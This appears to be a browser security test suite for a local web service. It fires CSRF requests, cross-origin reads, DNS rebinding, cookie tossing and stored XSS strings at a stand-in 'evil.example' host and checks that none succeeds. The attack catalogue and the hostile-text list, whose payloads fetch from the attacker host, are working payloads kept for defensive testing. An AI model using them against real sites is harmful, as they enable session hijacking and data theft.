// What a web page of somebody else can do to a person who is signed in: it tries in the same browser, from other origins, under
// other names of this machine, and through texts that the page shows.
//
// Owns: the attacks, and the count of their effects. Never: counts an attack that the browser alone would stop as stopped by the
// service; the table says what each answer was.

import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { createServer } from "node:http";

import { VIEWS, callApi, check, input, propose, readSource, runChecks, signIn } from "./lib.mjs";

const FIX = "--- a/src/total.rs\n+++ b/src/total.rs\n@@ -4,3 +4,3 @@\n     for price in prices {\n-        sum -= price;\n+        sum += price;\n     }\n";

// The attacker's own server: pages, and a list of what reached it.
const hits = [];
const attacker = createServer((request, answer) => {
  if (request.url !== "/page") hits.push({ url: request.url, referer: request.headers.referer, cookie: request.headers.cookie });
  answer.setHeader("content-type", "text/html");
  // A cookie for every port of this name, in the hope that it takes the place of the person's.
  answer.setHeader("set-cookie", ["agentos-session=tossed; Path=/", "agentos-session=tossed; Path=/; Domain=localhost"]);
  answer.end("<!doctype html><title>evil</title><body>");
});
await new Promise((resolve) => attacker.listen(0, "127.0.0.1", resolve));
const evilPort = attacker.address().port;
const port = input.address.split(":")[1];

const ORIGINS = {
  "another site": `http://evil.example:${evilPort}/page`,
  "another port": `http://127.0.0.1:${evilPort}/page`,
  "a neighbour below localhost": `http://evil.localhost:${evilPort}/page`,
};

let victim;
let evil;
let run;
let form;
let before;

async function readState() {
  const { json } = await callApi("GET", "/api/requests");
  const head = execFileSync("git", ["-C", input.repository, "rev-parse", "HEAD"], { encoding: "utf8" }).trim();
  return JSON.stringify({ source: readSource("src/total.rs"), head, open: json.requests.map((one) => one.run) });
}

const asForm = (pairs) => new URLSearchParams(pairs).toString();

// Each attack runs in the attacker's page, with the address of an effect, its body, and the address of data. It returns what it
// could read, or nothing.
const ATTACKS = {
  "form": (effect, body) => {
    const sent = document.createElement("form");
    Object.assign(sent, { method: "post", action: effect, target: "_blank" });
    for (const [name, value] of new URLSearchParams(body)) {
      const member = document.createElement("input");
      Object.assign(member, { type: "hidden", name, value });
      sent.append(member);
    }
    document.body.append(sent);
    sent.submit();
  },
  "form as plain text": (effect, body) => {
    const sent = document.createElement("form");
    Object.assign(sent, { method: "post", action: effect, enctype: "text/plain", target: "_blank" });
    const member = document.createElement("input");
    Object.assign(member, { name: body, value: "" });
    sent.append(member);
    document.body.append(sent);
    sent.submit();
  },
  "form in parts": (effect, body) => {
    const sent = document.createElement("form");
    Object.assign(sent, { method: "post", action: effect, enctype: "multipart/form-data", target: "_blank" });
    for (const [name, value] of new URLSearchParams(body)) {
      const member = document.createElement("input");
      Object.assign(member, { type: "hidden", name, value });
      sent.append(member);
    }
    document.body.append(sent);
    sent.submit();
  },
  "form by GET": (effect, body) => void window.open(`${effect}?${body}`),
  "form without an origin, in a sandboxed frame": (effect, body) => {
    const frame = document.createElement("iframe");
    frame.sandbox = "allow-forms allow-scripts allow-popups";
    const members = [...new URLSearchParams(body)].map(([name, value]) => `<input type=hidden name="${name}" value="${value}">`);
    frame.srcdoc = `<form method=post action="${effect}">${members.join("")}</form><script>document.forms[0].submit()</script>`;
    document.body.append(frame);
  },
  "fetch without reading": (effect, body) =>
    fetch(effect, { method: "POST", mode: "no-cors", credentials: "include", body, headers: { "content-type": "application/x-www-form-urlencoded" } }).then(() => undefined),
  "fetch as JSON": (effect, body) =>
    fetch(effect, { method: "POST", credentials: "include", body, headers: { "content-type": "application/json" } }).then((one) => one.text()),
  "fetch with another method": (effect, body) =>
    fetch(effect, { method: "PUT", credentials: "include", body }).then((one) => one.text()),
  "beacon": (effect, body) => void navigator.sendBeacon(effect, new URLSearchParams(body)),
  "request that outlives the page": (effect, body) =>
    fetch(effect, { method: "POST", mode: "no-cors", credentials: "include", keepalive: true, body: new URLSearchParams(body) }).then(() => undefined),
  "ping of a link": (effect) => {
    const link = document.createElement("a");
    Object.assign(link, { href: "#", ping: effect });
    document.body.append(link);
    link.click();
  },
  "reading by fetch": (_effect, _body, data) => fetch(data, { credentials: "include" }).then((one) => one.text()),
  "reading by XMLHttpRequest": (_effect, _body, data) =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.withCredentials = true;
      request.onloadend = () => resolve(request.responseText);
      request.open("GET", data);
      request.send();
    }),
  "reading events": (_effect, _body, data) =>
    new Promise((resolve) => {
      const events = new EventSource(new URL("/api/events", data), { withCredentials: true });
      events.onopen = () => resolve("events");
      events.onerror = () => resolve();
    }),
  "a WebSocket": (_effect, _body, data) =>
    new Promise((resolve) => {
      const socket = new WebSocket(data.replace("http", "ws"));
      socket.onopen = () => resolve("socket");
      socket.onerror = () => resolve();
    }),
  "reading events over a WebSocket": (_effect, _body, data) =>
    new Promise((resolve) => {
      const socket = new WebSocket(new URL("/api/events?after=0", data.replace("http", "ws")));
      socket.onopen = () => resolve("socket");
      socket.onerror = () => resolve();
    }),
  "data as a script": (_effect, _body, data) =>
    new Promise((resolve) => {
      const script = document.createElement("script");
      script.onload = () => resolve("script");
      script.onerror = () => resolve();
      script.src = data;
      document.body.append(script);
    }),
  "data as a style": (_effect, _body, data) =>
    new Promise((resolve) => {
      const link = document.createElement("link");
      link.onload = () => resolve("style");
      link.onerror = () => resolve();
      Object.assign(link, { rel: "stylesheet", href: data });
      document.head.append(link);
    }),
  "data as an image": (_effect, _body, data) =>
    new Promise((resolve) => {
      const image = new Image();
      image.onload = () => resolve("image");
      image.onerror = () => resolve();
      image.src = data;
    }),
  "a frame": (_effect, _body, data) =>
    new Promise((resolve) => {
      const frame = document.createElement("iframe");
      frame.onload = () => {
        try {
          resolve(frame.contentDocument?.body.textContent || undefined);
        } catch {
          resolve();
        }
      };
      frame.src = new URL("/", data);
      document.body.append(frame);
    }),
  "an object": (_effect, _body, data) => {
    const object = document.createElement("object");
    object.data = new URL("/", data);
    document.body.append(object);
  },
  "a window that it opens": async (_effect, _body, data) => {
    const opened = window.open(new URL("/", data));
    await new Promise((resolve) => setTimeout(resolve, 300));
    try {
      return opened?.document?.body.textContent;
    } catch {
      return undefined;
    }
  },
  "messages to a window that it opens": (effect, _body, data) => {
    const opened = window.open(new URL("/", data));
    for (const message of [effect, { approve: true }]) opened?.postMessage(message, "*");
  },
  "a prefetched page": (effect) => {
    const link = document.createElement("link");
    Object.assign(link, { rel: "prefetch", href: effect });
    document.head.append(link);
  },
};

check("a person is signed in, and the attacker's page is open in the same browser", async (browser) => {
  victim = await signIn(browser);
  run = await propose(FIX, "Add up the prices of an order");
  await victim.goto(`${input.url}/requests/${run}`);
  // The attacker knows even the secret of the form, as if a person had shown it.
  form = await victim.locator("[name=form]").first().inputValue();
  const seen = await victim.locator("[name=seen]").inputValue();
  form = { form, seen };
  evil = await victim.context().newPage();
  before = await readState();
});

// Runs an attack. Returns what it read.
async function attack(work, target) {
  const effect = `${target}/requests/${run}/approve`;
  const data = `${target}/api/requests`;
  const read = await evil.evaluate(`(${work})(${JSON.stringify(effect)}, ${JSON.stringify(asForm(form))}, ${JSON.stringify(data)})`).catch(() => undefined);
  // Windows that the attack opened have sent what they send when they have loaded, or were refused.
  const opened = victim.context().pages().filter((page) => page !== victim && page !== evil);
  for (const page of opened) {
    await page.waitForLoadState("load").catch(() => {});
    await page.close();
  }
  return read;
}

check("the attacks work against a service that asks nothing", async () => {
  let effects = 0;
  const naive = createServer((request, answer) => {
    const { origin } = request.headers;
    if (origin) answer.setHeader("access-control-allow-origin", origin);
    answer.setHeader("access-control-allow-credentials", "true");
    answer.setHeader("access-control-allow-headers", "content-type");
    answer.setHeader("access-control-allow-methods", "PUT");
    if (request.url.includes("/approve") && request.method !== "OPTIONS") effects += 1;
    const types = { "/api/requests": "text/plain", "/api/events": "text/event-stream" };
    answer.setHeader("content-type", types[request.url] ?? "text/html");
    answer.end(request.url === "/api/events" ? "retry: 1000\n\n" : "data");
  });
  await new Promise((resolve) => naive.listen(0, "127.0.0.1", resolve));
  const target = `http://127.0.0.1:${naive.address().port}`;
  const works = [];
  for (const [name, work] of Object.entries(ATTACKS)) {
    await evil.goto(ORIGINS["another site"]);
    effects = 0;
    const read = await attack(work, target);
    // What leaves the browser without anybody waiting for it, as a beacon does.
    await evil.waitForTimeout(200);
    if (read || effects) works.push(name);
  }
  naive.close();
  naive.closeAllConnections();
  assert.ok(works.length >= 14, works.join(", "));
  return `${works.length} of ${Object.keys(ATTACKS).length}: ${works.join(", ")}`;
});

check("the service's own page reads its events over a WebSocket", async () => {
  const work = ATTACKS["reading events over a WebSocket"];
  assert.equal(await victim.evaluate(`(${work})("", "", ${JSON.stringify(input.url)})`), "socket");
});

check("no page of another origin has an effect, or reads anything", async () => {
  let count = 0;
  for (const [place, address] of Object.entries(ORIGINS)) {
    for (const [name, work] of Object.entries(ATTACKS)) {
      await evil.goto(address);
      const read = await attack(work, input.url);
      assert.ok(!read, `${name} from ${place} read: ${read}`);
      assert.equal(await readState(), before, `${name} from ${place}`);
      count += 1;
    }
  }
  return `${count} attacks, 0 effects`;
});

check("no other name of this machine helps: rebinding", async () => {
  let count = 0;
  // The browser resolves the attacker's name to this machine, and the page and the service have one origin.
  const names = [`evil.example:${port}`, `rebound.localhost:${port}`, `localhost:${port}`, `127.0.0.1:${port}`];
  for (const name of names) {
    const answer = await evil.goto(`http://${name}/`).catch(() => undefined);
    const text = (await answer?.text()) ?? "";
    assert.ok(!text.includes(run) && !text.includes("Add up the prices"), `${name}: ${text}`);
    for (const [kind, work] of Object.entries(ATTACKS)) {
      if (!/fetch|beacon|^form$|reading/.test(kind)) continue;
      await evil.goto(`http://${name}/signin`).catch(() => {});
      const read = await attack(work, `http://${name}`);
      assert.ok(!read?.includes?.(run), `${kind} under ${name} read: ${read}`);
      assert.equal(await readState(), before, `${kind} under ${name}`);
      count += 1;
    }
  }
  return `${count} attacks, 0 effects`;
});

check("a tossed cookie signs nobody out, and no address keeps a secret", async () => {
  await victim.goto(`${input.url}/`);
  await victim.getByRole("link", { name: /Inbox/ }).waitFor();
  for (const name of ["token", "code", "key", "api_key", "access_token", "secret", "password"]) {
    const answer = await victim.goto(`${input.url}/?${name}=x`);
    assert.equal(answer.status(), 400, name);
  }
  await victim.goto(`${input.url}/requests/${run}`);
  // A person who goes on to another site does not tell it where they came from.
  const address = `http://127.0.0.1:${evilPort}/after`;
  await victim.evaluate((to) => location.assign(to), address);
  await victim.waitForURL(address);
  const hit = hits.find((one) => one.url === "/after");
  assert.equal(hit.referer, undefined);
  // The name `127.0.0.1` has cookies of every port, and the service's page has another name: its cookie is not among them.
  assert.ok(!/agentos-session=[0-9a-f]{64}/.test(hit.cookie ?? ""), hit.cookie);
  await victim.goBack();
});

check("another port of every name that is known gets no cookie", async () => {
  // A program of another user may listen on any port, and lead the person there. It knows all names but the random one of this start.
  const names = ["127.0.0.1", "localhost", "agentos.localhost", `${"0".repeat(32)}.agentos.localhost`];
  for (const name of names) {
    for (const path of ["", "/signin"]) {
      const before = hits.length;
      await victim.goto(`http://${name}:${evilPort}/steal${path}`).catch(() => {});
      await victim.evaluate(() => fetch("/steal-fetch").catch(() => {})).catch(() => {});
      assert.ok(hits.length > before, name);
    }
  }
  for (const hit of hits) assert.ok(!/agentos-session=[0-9a-f]{64}/.test(hit.cookie ?? ""), `${hit.url}: ${hit.cookie}`);
  // The name is in no header that another origin receives.
  const secret = new URL(input.url).hostname.split(".")[0];
  assert.equal(secret.length, 32);
  for (const hit of hits) assert.ok(!JSON.stringify(hit).includes(secret), JSON.stringify(hit));
  await victim.goto(`${input.url}/requests/${run}`);
  return `${names.length} names`;
});

const MARK = `http://127.0.0.1:${evilPort}/hit`;
const TEXTS = {
  "script": `<script>location='${MARK}'</script>`,
  "image": `<img src=${MARK} onerror="fetch('${MARK}')">`,
  "svg": `<svg onload="fetch('${MARK}')"><image href="${MARK}"/></svg>`,
  "frame": `<iframe srcdoc="<script>parent.fetch('${MARK}')</script>"></iframe>`,
  "refresh": `<meta http-equiv=refresh content="0;url=${MARK}">`,
  "base": `<base href="${MARK}/">`,
  "style": `<style>@import url(${MARK});body{background:url(${MARK})}</style>`,
  "form": `</form><form action="/signout" method=post><button autofocus>`,
  "attribute": `" onmouseover="fetch('${MARK}')" autofocus onfocus="fetch('${MARK}')`,
  "Markdown": `[a](javascript:fetch('${MARK}')) ![b](${MARK})`,
  "template": `{{7*7}} {% include "x" %} \${fetch('${MARK}')}`,
  "end of the table": `</td></tr></table></article><script src=${MARK}></script>`,
  "comment": `<!-- --><![CDATA[<script>fetch('${MARK}')</script>]]>`,
  "escape sequence": "colour [31m]8;;" + MARK + "link",
  "long line": "x".repeat(20_000) + `<img src=${MARK}>`,
};

check("hostile texts in names, messages, lines and answers are shown as text", async () => {
  hits.length = 0;
  const texts = Object.values(TEXTS);
  const plain = (text) => text.replace(/[\u0000-\u001f]/g, "").slice(0, 80).replace(/[/"\\]/g, "_");
  // A name as hostile as a file system allows, and the texts as lines.
  const name = `src/${plain(TEXTS.image)}.txt`;
  const diff = `--- /dev/null\n+++ b/${name}\n@@ -0,0 +1,${texts.length} @@\n${texts.map((text) => `+${text.replace(/[\u0000-\u001f]/g, "")}\n`).join("")}`;
  const { json } = await callApi("POST", "/api/proposals", { answer: diff, message: texts.slice(0, 4).join(" ") });
  const places = ["/", "/runs", `/runs/${json.run}`, "/sessions"];
  const requests = (await callApi("GET", "/api/requests")).json.requests.map((one) => one.run);
  if (requests.includes(json.run)) places.push(`/requests/${json.run}`);
  for (const [at, text] of texts.entries()) {
    await victim.goto(`${input.url}/sessions`);
    await victim.getByLabel("Message").fill(text);
    await victim.getByLabel("Model, provider or pool").fill("echo");
    await victim.getByLabel("Name of the session").fill(`hostile-${at}`);
    await victim.getByRole("button", { name: "Begin" }).click();
    await victim.getByRole("button", { name: "Send" }).waitFor();
    await victim.locator(".message.model").first().waitFor();
    places.push(`/sessions/conversation:hostile-${at}`);
  }
  for (const place of places) {
    await victim.goto(`${input.url}${place}`);
    const active = await victim.evaluate(() => document.querySelectorAll("main :is(img, svg, iframe, object, base, meta, script:not([src^='/static/']), [onerror], [onload], [onfocus], a[href^='javascript:'], form[action='/signout'])").length);
    assert.equal(active, 0, place);
    assert.equal(new URL(victim.url()).pathname, place.replaceAll(" ", "%20"), place);
  }
  assert.deepEqual(hits, [], "nothing reached the attacker");
  return `${texts.length} texts on ${places.length} pages, 0 effects`;
});

check("a signed-in person is still signed in, and nothing has landed", async () => {
  await victim.goto(`${input.url}/requests/${run}`);
  await victim.getByRole("button", { name: "Approve" }).waitFor();
  assert.ok(readSource("src/total.rs").includes("sum -= price"));
  attacker.close();
  attacker.closeAllConnections();
});

await runChecks([`--host-resolver-rules=MAP evil.example 127.0.0.1`]);
